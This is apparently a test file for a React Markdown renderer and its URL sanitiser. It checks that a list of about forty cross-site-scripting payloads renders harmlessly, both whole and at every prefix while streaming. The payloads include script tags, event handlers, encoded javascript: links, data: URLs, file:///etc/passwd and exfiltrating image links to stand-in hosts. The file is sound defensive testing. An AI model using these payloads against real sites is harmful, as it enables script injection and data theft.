import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from './markdown';
import { safeUrl } from './safe-url';

afterEach(cleanup);

// Each would run `pwned()` if it reached the DOM as markup or as a URL.
const hostilePayloads = [
  '<script>pwned()</script>',
  '<img src=x onerror="pwned()">',
  '<iframe src="javascript:pwned()"></iframe>',
  '<svg onload="pwned()"><circle r="1"/></svg>',
  '<svg><script>pwned()</script></svg>',
  '<a href="javascript:pwned()">html link</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwned()>',
  '<details open ontoggle="pwned()">x</details>',
  '<object data="javascript:pwned()"></object>',
  '<embed src="javascript:pwned()">',
  '<form action="javascript:pwned()"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
  '<style>body{background:url("javascript:pwned()")}</style>',
  '[click](javascript:pwned())',
  '[click](JaVaScRiPt:pwned())',
  '[click](  javascript:pwned())',
  '[click](java\tscript:pwned())',
  '[click](javascript&#58;pwned())',
  '[click](javascript&#x3A;pwned())',
  '[click](&#106;avascript:pwned())',
  '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;pwned())',
  '[click](javascript&colon;pwned())',
  '[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  '[click](vbscript:pwned())',
  '[click](file:///etc/passwd)',
  '[click](//evil.example/steal)',
  '[click](\\javascript:pwned())',
  '[click][ref]\n\n[ref]: javascript:pwned()',
  '[click](<javascript:pwned()>)',
  '<javascript:pwned()>',
  '![x](javascript:pwned())',
  '![x](https://tracker.example/pixel.gif?chat=secret)',
  '![x" onerror="pwned()](https://example.com/a.png)',
  '[x](https://example.com/" onmouseover="pwned())',
  '`<script>pwned()</script>`',
  '```html\n<script>pwned()</script>\n```',
  '<!-- <script>pwned()</script> -->',
  '**<img src=x onerror=pwned()>**',
  '| a |\n| - |\n| <img src=x onerror=pwned()> |',
  '- <iframe srcdoc="<script>pwned()</script>"></iframe>',
];

declare global {
  var pwned: (() => void) | undefined;
}

afterEach(() => {
  globalThis.pwned = undefined;
});

function expectNothingUnsafe(container: HTMLElement) {
  for (const element of container.querySelectorAll('*')) {
    // The copy button's own icon is the one SVG we draw.
    if (element.closest('.vck-code-copy svg')) continue;
    expect([
      'script',
      'iframe',
      'img',
      'svg',
      'object',
      'embed',
      'form',
      'meta',
      'style',
      'math',
      'details',
      'link',
      'base',
    ]).not.toContain(element.localName);
    for (const attribute of element.attributes) {
      expect(attribute.name.startsWith('on'), `${element.localName}[${attribute.name}]`).toBe(false);
      expect(['src', 'srcdoc', 'action', 'formaction', 'data', 'xlink:href']).not.toContain(attribute.name);
    }
  }
  for (const anchor of container.querySelectorAll('a')) {
    expect(anchor.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:|tel:)/);
    expect(anchor.protocol).toMatch(/^(https?|mailto|tel):$/);
    expect(anchor.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  }
}

describe('Markdown safety', () => {
  it.each(hostilePayloads)('renders %j without markup or an unsafe URL', (payload) => {
    const pwned = vi.fn();
    globalThis.pwned = pwned;
    const { container } = render(<Markdown text={payload} />);
    expectNothingUnsafe(container);
    for (const anchor of container.querySelectorAll('a')) anchor.click();
    expect(pwned).not.toHaveBeenCalled();
  });

  it('stays safe at every prefix while streaming', () => {
    const text = hostilePayloads.join('\n\n');
    const view = render(<Markdown text="" streaming />);
    for (let end = 1; end <= text.length; end += 11) {
      view.rerender(<Markdown text={text.slice(0, end)} streaming />);
      expectNothingUnsafe(view.container);
    }
  });

  it('shows raw HTML as the text it is', () => {
    const { container } = render(<Markdown text={'Hello <b>world</b> <script>pwned()</script>'} />);
    expect(container.textContent).toBe('Hello <b>world</b> <script>pwned()</script>');
    expect(container.querySelector('b')).toBeNull();
  });

  it('keeps http, https, mailto and tel links', () => {
    const { container } = render(
      <Markdown
        text={
          '[web](https://example.com/a?b=1) [plain](http://example.com) [mail](mailto:help@example.com) [call](tel:+15551234) <https://example.com/auto> www.example.com'
        }
      />,
    );
    expect([...container.querySelectorAll('a')].map((anchor) => anchor.getAttribute('href'))).toEqual([
      'https://example.com/a?b=1',
      'http://example.com/',
      'mailto:help@example.com',
      'tel:+15551234',
      'https://example.com/auto',
      'http://www.example.com/',
    ]);
  });
});

describe('links with query strings', () => {
  it('keep every parameter as written', () => {
    const { container } = render(
      <Markdown
        text={
          'Open [billing](https://app.techflow.io/settings?user=42&tab=billing) or [this](https://example.com/p?id=5&copy=2&reg=eu&lt=3).'
        }
      />,
    );
    expect([...container.querySelectorAll('a')].map((anchor) => anchor.getAttribute('href'))).toEqual([
      'https://app.techflow.io/settings?user=42&tab=billing',
      'https://example.com/p?id=5&copy=2&reg=eu&lt=3',
    ]);
  });
});

describe('safeUrl', () => {
  it.each([
    ['https://example.com', 'https://example.com/'],
    ['mailto:a@example.com', 'mailto:a@example.com'],
    ['javascript:alert(1)', undefined],
    ['  javascript:alert(1)', undefined],
    ['java\nscript:alert(1)', undefined],
    ['javascript&#58alert(1)', undefined],
    ['data:text/html,hi', undefined],
    ['/relative', undefined],
    ['//evil.example', undefined],
    ['https:evil.example', undefined],
    // A query string is not a character reference: `&tab=`, `&copy=`, `&reg=`, `&lt=` stay as written.
    [
      'https://app.techflow.io/settings?user=42&tab=billing',
      'https://app.techflow.io/settings?user=42&tab=billing',
    ],
    ['https://example.com/p?id=5&copy=2', 'https://example.com/p?id=5&copy=2'],
    ['https://example.com/p?a=1&reg=eu&lt=3', 'https://example.com/p?a=1&reg=eu&lt=3'],
    // A real reference (with its semicolon, as CommonMark requires) is decoded, from the whole HTML5 table.
    ['https://example.com/?q=a&amp;b=c', 'https://example.com/?q=a&b=c'],
    ['https://example.com/caf&eacute;', 'https://example.com/caf%C3%A9'],
    ['https://example.com/&NotSquareSupersetEqual;', 'https://example.com/%E2%8B%A3'],
    // Whatever a lenient reading of the scheme finds, a disguised script is still refused.
    ['java&Tab;script:alert(1)', undefined],
    ['javascript&colon;alert(1)', undefined],
    ['jav&NewLine;ascript:alert(1)', undefined],
  ])('%j → %j', (url, expected) => {
    expect(safeUrl(url)).toBe(expected);
  });
});
